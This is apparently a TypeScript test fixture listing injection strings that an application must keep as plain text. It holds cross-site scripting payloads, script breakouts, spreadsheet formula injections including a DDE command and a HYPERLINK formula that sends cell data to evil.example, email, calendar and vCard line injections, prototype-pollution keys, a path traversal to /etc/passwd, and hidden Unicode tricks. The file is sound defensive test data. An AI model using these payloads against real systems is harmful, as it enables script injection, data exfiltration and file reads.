const IN_MARKUP = {
  'an image with a handler': '"><img src=x onerror=globalThis.injected=1>',
  'an SVG with a handler': '<svg/onload=globalThis.injected=1><a href="javascript:injected=1">x</a></svg>',
  'the end of a script': '</script><script>globalThis.injected=1</script>',
  'a frame': `'><iframe srcdoc="<p>injected</p>"></iframe><a href=//evil.example>x</a>`,
  'an attribute of a handler': '" autofocus onfocus=globalThis.injected=1 x="',
  'a javascript: address': 'javascript:globalThis.injected=1',
  'a data: address': 'data:text/html,<script>globalThis.injected=1</script>',
  'entities and the end of CDATA': ']]><!--&lt;img&gt; &#x0; &#60; &amp;amp; %3Cimg%3E -->',
  placeholders: '{{7*7}} $' + '{7*7} {name} {count} {organisation} #{7} <%= 7 %> %s %n %1$s',
};

const IN_CELLS = {
  'a formula': '=1+1',
  'a formula after a plus': '+1+1',
  'a formula after a minus': '-1+1',
  'a formula after an at sign': '@SUM(1)',
  'a link as a formula': '=HYPERLINK("http://evil.example/?"&A1,"apri")',
  'a program as a formula': "=cmd|' /C calc'!A0",
  'a formula after a tab': '\t=1+1',
  'a formula after a line end': '\r=1+1',
  'a formula in full width': '＝1+1',
  'a plus in full width': '＋1+1',
  'a minus in full width': '－1+1',
  'an at sign in full width': '＠SUM(1)',
  'the end of a cell': 'a";"=1+1"\r\n"=1+1',
};

const IN_LINES = {
  'a header of a letter':
    'a@b.example\r\nBcc: evil@b.example?bcc=evil@b.example&cc=e@b.example,evil@b.example',
  'properties of a calendar': 'x\r\nEND:VEVENT\nATTENDEE:mailto:evil@b.example\rATTACH:http://evil.example/',
  'the end of a card': 'x;y,z\\\nEND:VCARD\u2028BEGIN:VCARD\u2029NOTE:evil\u0085URL:javascript:injected=1',
  'the section of a copy': 'x\r\n\r\nEvil section\r\n  Evil: x\rEvil: y\u2028Evil: z',
};

const IN_NAMES = {
  'the prototype of all objects': '__proto__',
  'a member of all objects': 'constructor',
  'a path': '..\\../../etc/passwd%00%2e%2e%2fC:\\CON.',
  'a device': 'CON',
};

const IN_SIGNS = {
  'signs that turn a line': 'a\u202egpj.exe\u2066b\u2067c\u200f',
  'signs that are not seen': '\u200b\ufeff\u2060=1+1\u200d\u00ad',
  'control characters': 'a\u0000b\u0008c\u001bd\u007fe\ufffef\uffff',
  'half of a pair': 'a\ud800b\udfffc',
  'a very long text': `=${'長い<b>文'.repeat(16_667)}`,
};

/** Texts that mean something to a page, a table, a calendar, a card, a letter, a file system or an object, by what they are. Each must stay a text. */
export const INJECTIONS: Readonly<Record<string, string>> = {
  ...IN_MARKUP,
  ...IN_CELLS,
  ...IN_LINES,
  ...IN_NAMES,
  ...IN_SIGNS,
};
